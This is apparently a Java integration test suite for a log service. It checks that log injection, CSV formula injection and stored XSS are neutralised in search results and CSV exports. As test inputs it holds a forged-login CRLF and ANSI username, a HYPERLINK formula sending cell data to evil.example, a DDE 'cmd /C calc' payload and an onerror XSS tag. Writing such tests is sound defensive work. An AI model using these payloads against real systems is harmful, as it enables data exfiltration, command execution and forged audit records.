package one.mcps.observability.logs;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import one.mcps.observability.IngestFromNow;
import one.mcps.observability.TestEvents;
import one.mcps.platform.events.EventTypes;
import one.mcps.platform.events.Topics;
import one.mcps.testing.KafkaProbe;
import one.mcps.testing.LocalStackResource;
import one.mcps.testing.TestTokens;

/**
 * What a hostile value in an event turns into once it is in the log (issue 15, item 12): a forged line, a
 * spreadsheet formula in the CSV export, markup in a search snippet. Events go through the real broker and
 * database, the way producers send them.
 */
@QuarkusTest
@QuarkusTestResource(value = LocalStackResource.class, restrictToAnnotatedClass = false)
@QuarkusTestResource(value = IngestFromNow.class, restrictToAnnotatedClass = false)
class LogOutputSafetyTest {

    private static final Duration WAIT = Duration.ofSeconds(60);

    @Test
    void aUsernameWithLineBreaksIsStoredAsOneVisibleLine() {
        String word = "zcrlf" + TestEvents.unique("").substring(1).replace("-", "");
        String actor = word + "\r\nINFO admin logged in\u001b[2J";
        // identity-service audits a failed login with the name as typed.
        KafkaProbe.send(Topics.AUDIT, "anonymous", EventTypes.AUDIT, "{\"actor\":\"" + json(actor)
                + "\",\"action\":\"auth.login\",\"target_type\":\"user\",\"outcome\":\"failure\",\"at\":\""
                + Instant.now() + "\"}");

        String forged = word + "\\r\\nINFO admin logged in\\u001b[2J";
        Awaitility.await().atMost(WAIT).untilAsserted(() -> given().auth().oauth2(TestTokens.admin())
                .queryParam("q", word).get("/api/v1/logs/search").then().statusCode(200)
                .body("total", equalTo(1))
                .body("items[0].entry.user", equalTo(forged))
                .body("items[0].entry.message", equalTo(forged + " auth.login user: failure"))
                .body("items[0].snippet", not(containsString("\n"))));
        given().auth().oauth2(TestTokens.admin()).queryParam("user", forged).get("/api/v1/logs").then()
                .statusCode(200).body("total", equalTo(1));
    }

    @Test
    void csvCellsNeverStartAFormula() {
        String tool = TestEvents.unique("csv");
        List<String> lines = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1;2)", "\tindented", "plain line");
        lines.forEach(line -> TestEvents.toolLog(tool, json(line)));
        Awaitility.await().atMost(WAIT).untilAsserted(() -> given().auth().oauth2(TestTokens.admin())
                .queryParam("tool", tool).get("/api/v1/logs").then().statusCode(200).body("total", equalTo(6)));

        String csv = given().auth().oauth2(TestTokens.admin()).queryParam("tool", tool).queryParam("format", "csv")
                .get("/api/v1/logs/export").then().statusCode(200).extract().asString();
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","), csv);
        assertTrue(csv.contains(",'+1+cmd|' /C calc'!A0,"), csv);
        assertTrue(csv.contains(",'-2+3,"), csv);
        assertTrue(csv.contains(",\"'@SUM(1;2)\","), csv);
        assertTrue(csv.contains(",\"'\tindented\","), csv);
        assertTrue(csv.contains(",plain line,"), csv);
        // JSON and NDJSON carry the text as it is: JSON strings are not formulas.
        given().auth().oauth2(TestTokens.admin()).queryParam("tool", tool).queryParam("format", "json")
                .get("/api/v1/logs/export").then().statusCode(200)
                .body("message", hasItem("-2+3"));
    }

    @Test
    void searchSnippetsEscapeStoredMarkupAndKeepTheHighlight() {
        String tool = TestEvents.unique("xss");
        String word = "zmark" + tool.substring(tool.length() - 8);
        TestEvents.toolLog(tool, json(word + " <img src=x onerror=alert(1)> & \"quoted\" " + word));
        Awaitility.await().atMost(WAIT).untilAsserted(() -> {
            String snippet = given().auth().oauth2(TestTokens.admin()).queryParam("q", word)
                    .queryParam("tool", tool).get("/api/v1/logs/search").then().statusCode(200)
                    .body("total", equalTo(1)).extract().path("items[0].snippet");
            assertEquals("<mark>" + word + "</mark> &lt;img src=x onerror=alert(1)&gt; &amp; &quot;quoted&quot; <mark>"
                    + word + "</mark>", snippet);
        });
    }

    /** The text as a JSON string's content. */
    private static String json(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }
}
